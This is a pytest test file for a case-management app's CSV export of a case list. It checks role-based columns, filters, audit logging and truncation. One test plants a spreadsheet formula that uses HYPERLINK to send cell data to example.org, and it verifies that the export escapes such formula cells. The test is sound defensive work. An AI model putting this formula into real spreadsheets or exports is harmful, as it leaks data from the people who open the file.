"""The case list taken out as a file: what the page shows that agency, and no cell is a formula."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.test import Client

from safeconduct.cases.names import document_key
from safeconduct.store.models import AuditEntry, User
from safeconduct.store.records import Names
from safeconduct.web.dates import today
from safeconduct.words import LANGUAGES, say
from tests.integration.cast import ROLES, cases, users

AT = "/en/cases/list.csv"
ALWAYS = ("reference", "minor", "Belgian", "due", "who", "day", "overdue")
NAMES = Names("Qxanafamily", "Qxanagiven", "", "")


@pytest.fixture
def people(db: None) -> dict[str, User]:
    return users()


@pytest.fixture
def both(people: dict[str, User]) -> tuple[str, str]:
    return cases(people, woman=NAMES, minor=NAMES)


def as_(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def table(client: Client, address: str = AT) -> list[list[str]]:
    answer = client.get(address)
    assert answer.status_code == 200
    text = answer.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_everybody_takes_out_the_lines_and_columns_of_their_own_list(
    people: dict[str, User], both: tuple[str, str]
) -> None:
    hers, his = both
    for name, role in ROLES.items():
        client = as_(people[name])
        head, *lines = table(client)
        page = client.get("/en/cases/").text
        shown = re.findall(r'sc-reference" href="/en/cases/([^/]+)/', page)
        assert [line[0] for line in lines] == shown, name
        known = {hers} if role.woman else set()
        known |= {his} if role.minor else set()
        assert set(shown) <= known, name
        for column in ("Phase", "Document", "Assessment"):
            assert (column in head) == (f"{column}</th>" in page or (not shown and column in head))
        # Whether the person is a minor or Belgian is said where the page says it.
        for line in lines:
            assert bool(line[1]) == (line[0] == his and ">Minor<" in _row(page, line[0])), name
        assert "Qxana" not in str([head, *lines])


def _row(page: str, reference: str) -> str:
    return re.sub(r"\s+", "", page.split(f"{reference}</a>")[1].split("</tr>")[0])


def test_its_columns_are_those_the_task_needs(
    people: dict[str, User], both: tuple[str, str]
) -> None:
    more = {
        "immigration office": ["list-phase", "list-document", "table-until"],
        "police who met her": ["case-assessment"],
        "state security": [],
    }
    for name, columns in more.items():
        head, *_ = table(as_(people[name]))
        assert len(head) == len(ALWAYS) + len(columns), name
        named = [say("en", key) for key in columns]
        assert head[len(ALWAYS) :] == named, name


def test_the_filters_of_the_page_hold_for_the_file(
    people: dict[str, User], both: tuple[str, str]
) -> None:
    hers, his = both
    client = as_(people["immigration office"])
    assert {line[0] for line in table(client)[1:]} == {hers, his}
    assert [line[0] for line in table(client, f"{AT}?q={his}")[1:]] == [his]
    assert table(client, f"{AT}?phase=ended")[1:] == []
    link = f"/en/cases/list.csv?q={his}"
    assert f'href="{link}"' in client.get(f"/en/cases/?q={his}").text


def test_taking_it_out_is_recorded_with_its_purpose(
    people: dict[str, User], both: tuple[str, str]
) -> None:
    client = as_(people["immigration office"])
    answer = client.get(AT)
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    name = f"cases-{today().isoformat()}.csv"
    assert answer["Content-Disposition"] == f'attachment; filename="{name}"'
    assert answer["Cache-Control"] == "no-store"
    entry = AuditEntry.objects.get(deed="cases.exported")
    assert entry.actor_id == people["immigration office"].pk
    assert (entry.purpose, entry.details) == ("list", {"lines": 2, "more": False})


def test_a_table_that_is_cut_says_so(
    people: dict[str, User], both: tuple[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("safeconduct.store.listing.export_cases.__kwdefaults__", _one())
    _head, *lines = table(as_(people["immigration office"]))
    assert len(lines) == 2 and lines[1] == [say("en", "table-cut", n=5000)]


def _one() -> dict[str, object]:
    return {"filters": None, "search": "", "today": None, "most": 1}


def test_no_cell_of_the_file_is_a_formula(
    people: dict[str, User], both: tuple[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    formula = '=HYPERLINK("http://example.org/?"&A1,"+1\n@SUM")'
    client = as_(people["immigration office"])
    monkeypatch.setattr("safeconduct.web.cases.table.document_named", lambda _line: formula)
    lines = table(client)[1:]
    assert [line[8] for line in lines] == [f"'{formula}"] * 2
    assert not any(cell[:1] in "=+-@\t\r\n|" for line in lines for cell in line if cell)


@pytest.mark.parametrize("lang", LANGUAGES)
def test_the_page_offers_it_in_every_language(
    people: dict[str, User], both: tuple[str, str], lang: str
) -> None:
    client = as_(people["immigration office"])
    page = client.get(f"/{lang}/cases/").text
    assert f'href="/{lang}/cases/list.csv"' in page and say(lang, "table-link") in page
    cells = {cell for line in table(client, f"/{lang}/cases/list.csv") for cell in line}
    assert (
        say(lang, document_key("unlimited_residence", today())) in cells
        or {
            say(lang, "phase-temporary_residence"),
            say(lang, "phase-unlimited_residence"),
        }
        & cells
    )
